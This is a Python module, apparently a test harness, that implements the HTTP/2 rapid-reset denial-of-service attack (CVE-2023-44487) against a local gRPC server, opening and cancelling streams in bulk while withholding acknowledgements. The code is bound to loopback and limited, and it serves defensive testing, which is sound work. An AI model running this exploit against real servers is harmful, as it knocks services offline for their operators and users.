"""A rapid-reset client (CVE-2023-44487): HEADERS then RST_STREAM, over and over, on one
raw HTTP/2 connection, never answering the server. Loopback only, and bounded."""

from __future__ import annotations

import select
import socket
import time
from dataclasses import dataclass

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions

HEADERS = [
    (":method", "POST"),
    (":scheme", "http"),
    (":path", "/batchd.v1.BatchService/GetBatch"),
    (":authority", "localhost"),
    ("content-type", "application/grpc"),
    ("te", "trailers"),
]
STREAMS_PER_WRITE = 100


@dataclass(frozen=True)
class Outcome:
    streams: int
    seconds: float
    # "goaway: <code> <debug data>", "closed", or "" when the server let it run.
    cut_off: str


def rapid_reset(port: int, max_streams: int, max_seconds: float) -> Outcome:
    """Opens and resets streams until the server cuts the connection or a bound is hit.
    The server's frames are read but never answered (no PING or SETTINGS acks)."""
    connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    started = time.monotonic()
    streams = 0
    with socket.create_connection(("127.0.0.1", port), timeout=5) as sock:
        connection.initiate_connection()
        sock.sendall(connection.data_to_send())
        while streams < max_streams and time.monotonic() - started < max_seconds:
            for _ in range(STREAMS_PER_WRITE):
                stream_id = connection.get_next_available_stream_id()
                connection.send_headers(stream_id, HEADERS)
                connection.reset_stream(stream_id, h2.errors.ErrorCodes.CANCEL)
            streams += STREAMS_PER_WRITE
            try:
                sock.sendall(connection.data_to_send())
                cut_off = _read_without_answering(sock, connection)
            except OSError as error:
                cut_off = f"closed: {type(error).__name__}"
            if cut_off:
                return Outcome(streams, time.monotonic() - started, cut_off)
    return Outcome(streams, time.monotonic() - started, "")


def _read_without_answering(sock: socket.socket, connection: h2.connection.H2Connection) -> str:
    while select.select([sock], [], [], 0)[0]:
        data = sock.recv(65536)
        if not data:
            return "closed"
        try:
            events = connection.receive_data(data)
        except h2.exceptions.ProtocolError as error:
            return f"closed: {error}"
        connection.clear_outbound_data_buffer()  # the acks h2 would send
        for event in events:
            if isinstance(event, h2.events.ConnectionTerminated):
                return f"goaway: {event.error_code!r} {event.additional_data!r}"
    return ""
